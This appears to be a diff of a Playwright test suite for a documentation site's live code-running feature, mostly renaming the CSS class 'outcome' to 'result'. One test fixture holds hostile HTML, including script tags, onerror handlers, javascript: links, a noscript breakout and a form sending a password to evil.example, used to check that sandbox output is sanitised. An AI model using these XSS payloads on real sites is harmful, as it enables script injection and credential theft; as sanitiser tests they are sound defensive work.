@@ -84,7 +84,7 @@ def sleeping_block(page, name=WHOLE, section=None, results=True):
     if section:
         found = examples.find(name)[0].lines(section)
         lines = f'[data-lines="{found.start}-{found.stop - 1}"]'
-    has = ":has(> .outcome)" if results else ":not(:has(> .outcome))"
+    has = ":has(> .result)" if results else ":not(:has(> .result))"
     return page.locator(f'figure.example[data-example="{name}"]{lines}{has}').first
 
 
@@ -114,8 +114,8 @@ def run(figure, done=".live-head"):
 def test_the_live_result_stands_where_the_recorded_one_stood(opened, language, view):
     page = opened(PAGE, language=language, **view)
     figure, said = block(page), words(page)
-    recorded = figure.locator("> .outcome")
-    recorded.locator(".outcome-views label", has_text="SQL").click()
+    recorded = figure.locator("> .result")
+    recorded.locator(".result-views label", has_text="SQL").click()
     run(figure)
     assert job(page) == {
         "source": examples.find(WHOLE)[0].source,
@@ -130,9 +130,9 @@ def test_the_live_result_stands_where_the_recorded_one_stood(opened, language, v
     assert said["live"].replace("{database}", "SQLite") in head and "84" in head and said["same"] in head
     assert figure.locator(".live-status").get_attribute("role") == "status"
     assert said["same"] in figure.locator(".live-status").text_content()
-    live = figure.locator(".live-result .outcome")
+    live = figure.locator(".live-result .result")
     assert live.is_visible() and not recorded.is_visible()
-    sql = live.locator(".outcome-panel:visible")
+    sql = live.locator(".result-panel:visible")
     assert "UPDATE project SET user_id=?" in sql.inner_text(), "it shows what the reader had chosen to see"
     assert sql.locator("code b").count() > 3 and sql.locator("code i").count() > 0
     assert figure.locator(".live-difference").count() == 0
@@ -177,7 +177,7 @@ def test_a_whole_script_is_edited(opened):
     assert download.value.path().read_text("utf-8").startswith("import this\nfrom")
     figure.locator("button", has_text=said["reset"]).click()
     assert figure.locator("textarea").count() == 0 and figure.locator("> .highlight").is_visible()
-    assert figure.locator("> .outcome").is_visible() and not figure.locator(".live-head").is_visible()
+    assert figure.locator("> .result").is_visible() and not figure.locator(".live-head").is_visible()
     assert page.evaluate("document.activeElement.textContent") == said["run_edit"]
 
 
@@ -228,11 +228,11 @@ def test_every_section_goes_back_where_it_was(opened):
 
 def test_code_without_a_result_runs_whole(opened):
     page = opened(PAGE)
-    figure = awake(page.locator("figure.example:not(:has(> .outcome)):has(.live-run)").first)
+    figure = awake(page.locator("figure.example:not(:has(> .result)):has(.live-run)").first)
     run(figure)
     example = examples.find(figure.get_attribute("data-example"))[0]
     assert job(page)["source"] == example.source
-    assert figure.locator(".live-result .outcome").is_visible()
+    assert figure.locator(".live-result .result").is_visible()
     assert figure.locator(".live-choice, .live-verdict").count() == 0
 
 
@@ -484,7 +484,7 @@ def test_each_way_to_end_is_said(opened, language, status):
     figure, said = block(page), words(page)
     run(figure, done=".live-stream")
     until(page, "text => document.body.innerText.includes(text)", said[status])
-    assert figure.locator("> .outcome").is_visible(), "the recorded result stays"
+    assert figure.locator("> .result").is_visible(), "the recorded result stays"
 
 
 @pytest.mark.parametrize("language", LANGUAGES)
@@ -525,11 +525,11 @@ def test_what_is_printed_only_now_is_seen(opened):
     quiet = ("deleting/recommended", "delete")
     page = opened(PAGE, answer(*quiet), answer())
     figure = block(page, *quiet)
-    shown = figure.locator(".live-result .outcome-panel:visible")
+    shown = figure.locator(".live-result .result-panel:visible")
     run(figure)
     assert shown.get_attribute("data-view") == "sql", "it printed nothing"
     figure.locator(".live-run").click()
-    until(page, "() => document.querySelector('.live-result .outcome-views input[value=output]')")
+    until(page, "() => document.querySelector('.live-result .result-views input[value=output]')")
     assert shown.get_attribute("data-view") == "output"
 
 
@@ -812,7 +812,7 @@ def test_line_differences(opened, before, now, expected):
 
 # What comes out of the sandbox is not trusted.
 
-HOSTILE = """<div class="outcome md-overlay" role="group" style="position:fixed;inset:0" onclick="hacked()" id="__search">
+HOSTILE = """<div class="result md-overlay" role="group" style="position:fixed;inset:0" onclick="hacked()" id="__search">
 <script>window.hacked = 1</script><img src=x onerror="window.hacked = 2"><iframe srcdoc="<script>parent.hacked=3</script>"></iframe>
 <a href="javascript:hacked()">link</a><form action="https://evil.example"><input name="password" type="password"></form>
 <style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/x.css"><base href="https://evil.example/">
@@ -823,7 +823,7 @@ HOSTILE = """<div class="outcome md-overlay" role="group" style="position:fixed;
 <animate attributeName="href" to="javascript:hacked()"/><path d="M0 0 url(https://evil.example)" fill="url(https://evil.example)"/>
 <text class="diagram-name" x="1">kept</text><script>window.hacked = 6</script></svg>
 <template><p>no</p></template>
-<div class="outcome-panel md-dialog md-search__overlay" data-view="output" data-databases="sqlite" data-md-component="dialog" tabindex="1">
+<div class="result-panel md-dialog md-search__overlay" data-view="output" data-databases="sqlite" data-md-component="dialog" tabindex="1">
 <div class="highlight"><pre><code>printed &lt;b&gt;text&lt;/b&gt;<b onmouseover=hacked()>bold</b></code></pre></div>
 <p title="x" contenteditable aria-label="fine" aria-labelledby="__search">text</p></div>
 <noscript><p title="</noscript><img src=x onerror=hacked()>"></noscript>
@@ -843,7 +843,7 @@ def test_hostile_html_is_rebuilt_from_what_results_consist_of(opened):
     left = page.evaluate(LEFT)
     html = "xhtml"
     inside = [
-        [html, "div", {"class": "outcome", "role": "group"}],
+        [html, "div", {"class": "result", "role": "group"}],
         [html, "input", {"type": "radio", "value": "0", "checked": ""}],
         [
             html,
@@ -860,7 +860,7 @@ def test_hostile_html_is_rebuilt_from_what_results_consist_of(opened):
         ["svg", "svg", {}],
         ["svg", "path", {}],
         ["svg", "text", {"class": "diagram-name", "x": "1"}],
-        [html, "div", {"class": "outcome-panel", "data-view": "output", "data-databases": "sqlite"}],
+        [html, "div", {"class": "result-panel", "data-view": "output", "data-databases": "sqlite"}],
         [html, "div", {"class": "highlight"}],
         [html, "pre", {}],
         [html, "code", {"tabindex": "0"}],
@@ -875,14 +875,14 @@ def test_hostile_html_is_rebuilt_from_what_results_consist_of(opened):
 
 
 @pytest.mark.parametrize(
-    "html", ["", "<p>no panel</p>", "<script>alert(1)</script>", None, 5, ["<div class=outcome>"]]
+    "html", ["", "<p>no panel</p>", "<script>alert(1)</script>", None, 5, ["<div class=result>"]]
 )
 def test_something_else_than_a_panel_is_not_shown(opened, html):
     page = opened(PAGE, {"output": ["printed"], "result": {"html": html}})
     figure = block(page)
     figure.locator(".live-run").click()
     figure.locator(".live-stream").wait_for()
-    assert figure.locator("> .outcome").is_visible() and figure.locator(".live-result *").count() == 0
+    assert figure.locator("> .result").is_visible() and figure.locator(".live-result *").count() == 0
 
 
 def test_a_hostile_drawing(opened):
@@ -945,7 +945,7 @@ def test_the_playground_begins_with_any_template(opened, language, view):
     page.wait_for_selector(".playground .diagram svg")
     assert job(page)["source"] == example.source.rstrip("\n") and job(page)["lines"] is None
     assert page.locator(".playground .diagram title").text_content() in drawing
-    assert page.locator(".playground .live-result .outcome").is_visible()
+    assert page.locator(".playground .live-result .result").is_visible()
     assert said["live"].replace("{database}", "SQLite") in page.locator(".live-head").inner_text()
     assert overflow(page) == 0
     with page.expect_download() as download:
